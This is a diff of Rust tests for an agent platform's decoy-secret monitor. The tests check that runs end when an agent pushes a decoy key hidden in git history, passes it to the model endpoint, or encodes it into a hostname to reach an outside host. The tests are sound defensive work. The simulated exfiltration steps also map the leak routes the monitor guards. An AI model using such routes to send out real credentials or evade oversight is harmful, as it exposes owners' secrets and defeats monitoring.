@@ -1,11 +1,16 @@
 //! Each run has a decoy. Where the agent shows that it has read it, the run ends and nothing of it is served any more.
 
-use anyhow::{Context, Result};
+use std::path::Path;
+
+use anyhow::{Context, Result, ensure};
 use http::{Method, StatusCode};
 use secrecy::ExposeSecret;
 use serde_json::{Value, json};
 use stories::{Pod, Story};
+use tokio::process::Command;
 use vault::Decoy;
+
+use crate::egress::tries;
 
 async fn working(t: &Story) -> Result<Pod> {
     let issue = t.open_issue("Add dark mode").await?;
@@ -86,6 +91,72 @@ async fn a_decoy_in_a_call_of_a_tool_ends_the_run_and_nothing_is_done() -> Resul
     let sql = "SELECT count(*) FROM outbound_actions WHERE kind = 'agent_comment'";
     let wished: i64 = sqlx::query_scalar(sql).fetch_one(&t.platform.db).await?;
     assert_eq!(wished, 1);
+    t.platform.still_runs()
+}
+
+/// Git as it is run in a pod, where the relay adds the token; whether it went well, and what it said.
+async fn git(pod: &Pod, folder: &Path, args: &[&str]) -> Result<(bool, String)> {
+    let token = format!("http.extraHeader=Authorization: Bearer {}", pod.token());
+    let mut git = Command::new("git");
+    git.current_dir(folder).env("GIT_TERMINAL_PROMPT", "0").args(["-c", &token]);
+    let names = ["-c", "user.name=codex", "-c", "user.email=agent@codex-k8s.test", "-c", "http.proxy="];
+    let ended = git.args(names).args(args).output().await?;
+    Ok((ended.status.success(), String::from_utf8_lossy(&ended.stderr).into_owned()))
+}
+
+#[tokio::test]
+async fn a_decoy_that_is_pushed_reaches_nobody_and_ends_the_run() -> Result<()> {
+    let mut t = Story::begin().await?;
+    let pod = working(&t).await?;
+    let context = pod.call(Method::GET, "context", &Value::Null).await?.ok()?;
+    let branch = context["branch"].as_str().context("no branch")?;
+    let key = decoy(&pod).await?.file().expose_secret().to_owned();
+    let folder = tempfile::tempdir()?;
+    let must = async |folder: &Path, args: &[&str]| {
+        let (is_good, said) = git(&pod, folder, args).await?;
+        ensure!(is_good, "git {args:?}: {said}");
+        anyhow::Ok(())
+    };
+    let origin = format!("{}/git/{}.git", t.platform.agents_url(), t.github.full_name());
+    must(folder.path(), &["clone", "--quiet", &origin, "checkout"]).await?;
+    let checkout = folder.path().join("checkout");
+    let push = format!("HEAD:refs/heads/{branch}");
+    let heads = async || t.github.api("bot", Method::GET, "/branches", &Value::Null).await;
+    let before = heads().await?;
+
+    // Taking it out again helps nothing: it is in the history.
+    tokio::fs::write(checkout.join("deploy.env"), &key).await?;
+    must(&checkout, &["add", "deploy.env"]).await?;
+    must(&checkout, &["commit", "--quiet", "--message", "Add settings"]).await?;
+    must(&checkout, &["rm", "--quiet", "deploy.env"]).await?;
+    must(&checkout, &["commit", "--quiet", "--message", "Take them out again"]).await?;
+    let (is_good, said) = git(&pod, &checkout, &["push", "--quiet", "origin", &push]).await?;
+    assert!(!is_good && !said.contains(key.trim()), "{said}");
+    let evidence = tripped(&t, &pod, "diff").await?;
+    assert_eq!(evidence["subject"], "deploy.env", "{evidence}");
+    assert_eq!(heads().await?, before, "it was pushed on");
+    t.platform.still_runs()
+}
+
+#[tokio::test]
+async fn neither_the_model_nor_a_foreign_host_is_told_a_decoy() -> Result<()> {
+    let mut t = Story::begin().await?;
+    let asking = working(&t).await?;
+    let key = decoy(&asking).await?.text().expose_secret().to_owned();
+    let output = json!({ "type": "function_call_output", "call_id": "1", "output": format!("It says {key}") });
+    let call = json!({ "model": "gpt-5.5", "stream": true, "store": false, "input": [output], "tools": [] });
+    let url = format!("{}/model/v1/responses", t.platform.agents_url());
+    let answer = reqwest::Client::new().post(url).bearer_auth(asking.token()).json(&call).send().await?;
+    assert_eq!(answer.status().as_u16(), 401);
+    tripped(&t, &asking, "model").await?;
+
+    let dialling = working(&t).await?;
+    let text = decoy(&dialling).await?.text().expose_secret().to_owned();
+    let (id, key) = text.split_once(':').context("no key")?;
+    let answer = tries(&t, &dialling, &format!("{id}.{key}.invalid")).await?;
+    assert!(!answer.starts_with("HTTP/1.1 200"), "{answer}");
+    tripped(&t, &dialling, "request").await?;
+    assert_eq!(t.owner.get("egress-requests?state=open").await?["items"], json!([]), "people are asked about it");
     t.platform.still_runs()
 }
 
